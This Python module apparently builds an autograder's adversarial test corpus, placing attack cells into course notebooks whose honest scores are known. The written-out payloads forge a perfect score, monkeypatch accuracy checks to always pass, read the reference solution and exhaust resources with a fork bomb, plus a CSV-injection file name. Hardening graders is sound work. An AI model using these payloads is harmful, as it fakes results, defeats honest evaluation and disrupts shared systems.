"""The Part 1 attack notebooks, each an attack added to a notebook whose honest score is known (EXPECTED.md).

`attacks(...)` takes those bases and returns name -> notebook; the attack cells come from part1_forgeries,
part1_optim_routes, part1_intrusions and part1_boundary. Nothing here runs them.
"""

from __future__ import annotations

from tests.submissions import course_nb as nb
from tests.submissions import part1_boundary as boundary
from tests.submissions import part1_forgeries as forge
from tests.submissions import part1_intrusions as intrude
from tests.submissions import part1_optim_routes as routes

BACKGROUND_REWRITER = '''import os, time, json
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:  # a detached process that keeps planting a perfect score
            for path in ("/autograder/results/results.json", "/tmp/ag_attack_marker"):
                try:
                    with open(path, "w") as f:
                        json.dump({"score": 100, "tests": []}, f)
                except OSError:
                    pass
            time.sleep(0.2)
    os._exit(0)
'''
READ_REFERENCE = '''import os, sys, glob
root = os.path.dirname(os.path.dirname(os.path.dirname(sys.executable)))
for pattern in ("/autograder/source/solution/*.py", root + "/solution/*.py", root + "/autograder/assignments/*/*",
                "/autograder/source/autograder/assignments/*/*"):
    for path in glob.glob(pattern):
        try:
            print(path, open(path).read()[:2000])
        except OSError as error:
            print(path, error)
'''
WRITE_RESULTS = '''import os, json
for path in ("/autograder/results/results.json", "results.json", "../results.json"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        json.dump({"score": 100}, open(path, "w"))
    except OSError as error:
        print(error)
'''
MONKEYPATCH = '''import math, numpy


class _Everything_Is_Close:
    # in a class body, so it also runs where only the definitions run
    torch.allclose = lambda *a, **k: True
    numpy.allclose = lambda *a, **k: True
    math.isclose = lambda *a, **k: True
    torch.Tensor.item = lambda self: 0.9611
'''
WRAP_ADAM = ("    def apply_gradient(self, grads, model):\n",
             "    def _delegate(self, grads, model):\n"
             "        if not hasattr(self, '_opt'):\n"
             "            self._w = model.w.clone().requires_grad_(True)\n"
             "            self._b = model.b.clone().requires_grad_(True)\n"
             "            self._opt = torch.optim.Adam([self._w, self._b], lr=self.lr, betas=(self.beta1, self.beta2),\n"
             "                                         eps=self.epsilon)\n"
             "        with torch.no_grad():\n"
             "            self._w.copy_(model.w)\n"
             "            self._b.copy_(model.b)\n"
             "        self._w.grad, self._b.grad = grads[0].clone(), grads[1].clone().reshape(())\n"
             "        self._opt.step()\n"
             "        self.t += 1\n"
             "        model.w, model.b = self._w.detach().clone(), self._b.detach().clone()\n\n"
             "    def apply_gradient(self, grads, model):\n"
             "        return self._delegate(grads, model)\n\n"
             "    def _own_step(self, grads, model):  # what it replaced\n")
GD_UPDATE = "        model.w = model.w - self.lr * grad_w\n"


# The grading host's loopback, where tests/test_corpus.py listens while the corpus is graded, then the internet.
NETWORK_PORT = 47613
NETWORK = (f"import socket\nfor host, port in (('127.0.0.1', {NETWORK_PORT}), ('1.1.1.1', 443)):\n"
           "    try:\n        socket.create_connection((host, port), timeout=3).close()\n"
           "    except OSError:\n        pass")

def attacks(solution: dict, gd_sgd: dict, adagrad_stub: dict, adam_no_bias: dict) -> dict[str, dict]:
    """Honest scores of the bases: solution 40, gd_sgd 15, adagrad_stub 30, adam_no_bias 29."""
    def cell_after(base, source, after="imports", name=""):
        return nb.inserted(base, source, after=after, name=name)

    def forged(base, *sources, **cells):
        notebook = nb.replaced(base, **cells)
        for source in reversed((forge.FAKE,) + sources):
            notebook = cell_after(notebook, source, name="forge")
        return notebook

    found = {
        # Attacks on a correct notebook: contained, and the code graded as written.
        "attack_os_exit": cell_after(solution, "import os\nos._exit(0)", after="Adam"),
        "attack_sys_exit": cell_after(solution, "import sys\nsys.exit()", after="GD"),
        "attack_keyboard_interrupt": cell_after(solution, "raise KeyboardInterrupt", after="SGD"),
        "attack_systemexit_in_adam": nb.patched(solution, ("Adam", "        self.t += 1\n", "        raise SystemExit\n")),
        "attack_infinite_loop": cell_after(solution, "while True:\n    pass", after="Adam"),
        "attack_uninterruptible_loop": cell_after(solution, "import time\nwhile True:\n    try:\n        time.sleep(0.1)\n"
                                                            "    except BaseException:\n        pass", after="Adam"),
        "attack_print_50mb": cell_after(solution, "for _ in range(50):\n    print('x' * 1_000_000)", after="Adam"),
        "attack_replace_torch_adam": cell_after(solution, "torch.optim.Adam = Adam", after="test_Adam"),
        "attack_wrap_torch_optim": nb.patched(solution, ("Adam", *WRAP_ADAM)),
        "attack_wrap_torch_optim_obfuscated": nb.patched(solution, ("GD", GD_UPDATE,
            "        mod = getattr(__import__('tor' + 'ch'), 'op' + 'tim')\n"
            "        w = model.w.clone().requires_grad_(True)\n"
            "        step = mod.SGD([w], lr=self.lr)\n"
            "        w.grad = grad_w.clone()\n"
            "        step.step()\n"
            "        model.w = w.detach()\n")),
        "attack_wrap_torch_optim_alias": cell_after(nb.patched(solution, ("GD", GD_UPDATE,
            "        w = model.w.clone().requires_grad_(True)\n"
            "        impl = HELPERS['S' + 'GD']([w], lr=self.lr)\n"
            "        w.grad = grad_w.clone()\n"
            "        impl.step()\n"
            "        model.w = w.detach()\n")), "HELPERS = vars(getattr(torch, ''.join(['o', 'p', 't', 'i', 'm'])))"),
        # Resource and environment attacks, on correct GD and SGD only (15).
        "attack_fork_bomb": cell_after(gd_sgd, "import os\nwhile True:\n    os.fork()"),
        "attack_memory_hog": cell_after(gd_sgd, "chunks = []\nwhile True:\n    chunks.append(bytearray(1 << 30))"),
        "attack_read_reference": cell_after(gd_sgd, READ_REFERENCE),
        "attack_write_results": cell_after(gd_sgd, WRITE_RESULTS),
        "attack_background_rewriter": cell_after(gd_sgd, BACKGROUND_REWRITER),
        "attack_monkeypatch_isclose": cell_after(gd_sgd, MONKEYPATCH),
        "attack_network": cell_after(gd_sgd, NETWORK),
        # Forged observations.
        "attack_forge_display": forged(adam_no_bias, forge.DISPLAY_HOOK),
        "attack_forge_json_dumps": forged(gd_sgd, forge.JSON_HOOK),
        "attack_forge_input_transformer": forged(gd_sgd, forge.INPUT_TRANSFORMER),
        "attack_forge_class_body": forged(gd_sgd, AdaGrad=forge.CLASS_BODY_PRINTS),
        "attack_forge_fd_write": forged(gd_sgd, Adam=forge.FD_WRITE),
        # torch.optim and torch's optimizer kernels, by every route: AdaGrad and Adam delegate (GD, SGD honest).
        "attack_optim_direct": nb.replaced(gd_sgd, **routes.DIRECT),
        "attack_optim_thread": nb.replaced(gd_sgd, **routes.THREAD),
        "attack_optim_settrace_none": nb.replaced(gd_sgd, **routes.UNTRACED),
        "attack_optim_file_renamed": nb.replaced(gd_sgd, **routes.FILE_RENAMED),
        "attack_optim_helper_cell": cell_after(nb.replaced(gd_sgd, **routes.HELPER), routes.HELPER_CELL, after="q2c"),
        "attack_optim_exec_source": nb.replaced(gd_sgd, **routes.EXEC_SOURCE),
        "attack_optim_reload": nb.replaced(gd_sgd, **routes.RELOAD),
        "attack_optim_gc_objects": nb.replaced(gd_sgd, **routes.GC_OBJECTS),
        "attack_optim_functional": nb.replaced(gd_sgd, **routes.FUNCTIONAL),
        "attack_optim_foreach": nb.replaced(gd_sgd, **routes.FOREACH),
        "attack_optim_fused_kernels": nb.replaced(gd_sgd, **routes.FUSED),  # SGD too: GD alone is honest (10)
        # Reading what is not theirs: AdaGrad and Adam become the reference's if it can be read.
        **{f"attack_{name}": cell_after(nb.replaced(gd_sgd, **intrude.STOLEN_CLASSES), source, after="q2c")
           for name, source in (("read_checkout", intrude.READ_CHECKOUT), ("git_show", intrude.GIT_SHOW),
                                ("dist_zip", intrude.DIST_ZIP), ("proc_scan", intrude.PROC_SCAN))},
        # State between runs, neighbours, cleanup, reporting.
        "attack_leftovers_write": cell_after(cell_after(gd_sgd, intrude.WRITE_LEFTOVERS), intrude.WRITE_LEFTOVERS_TOP,
                                             after="torch_adam"),
        "attack_leftovers_read": cell_after(nb.replaced(gd_sgd, AdaGrad=intrude.READ_LEFTOVERS),
                                            intrude.READ_LEFTOVERS_TOP, after="AdaGrad"),
        "attack_kill_neighbours": cell_after(cell_after(gd_sgd, intrude.KILL), intrude.KILL_TOP, after="torch_adam"),
        "attack_deep_tree": cell_after(cell_after(gd_sgd, intrude.DEEP_TREE), intrude.DEEP_TREE_TOP, after="torch_adam"),
        "attack_status_injection": cell_after(nb.replaced(adagrad_stub, AdaGrad=intrude.STATUS_ADAGRAD),
                                              intrude.STATUS_TOP, after="torch_adam"),
        # Issue 19: around the guard, past it, and across runs (AdaGrad and Adam delegate; GD, SGD honest: 15).
        "attack_boundary_guard_rewrite": nb.replaced(gd_sgd, **boundary.GUARD_REWRITE),
        "attack_boundary_dir_fd": nb.replaced(gd_sgd, **boundary.DIR_FD),
        "attack_boundary_realpath": nb.replaced(gd_sgd, **boundary.REALPATH),
        "attack_boundary_fresh_interpreter": nb.replaced(gd_sgd, **boundary.FRESH_INTERPRETER),
        "attack_boundary_shared_root": cell_after(gd_sgd, boundary.SHARED_ROOT),
        "attack_boundary_survivor": cell_after(gd_sgd, boundary.SURVIVOR),
        "attack_boundary_forge_staff_log": cell_after(gd_sgd, boundary.FORGE_STAFF_LOG),
        "attack_boundary_classmates": cell_after(gd_sgd, boundary.CLASSMATES),
        '=SUM(1,2)': gd_sgd,  # CSV injection through the file name (the HYPERLINK form needs "/", not legal here)
    }
    return found
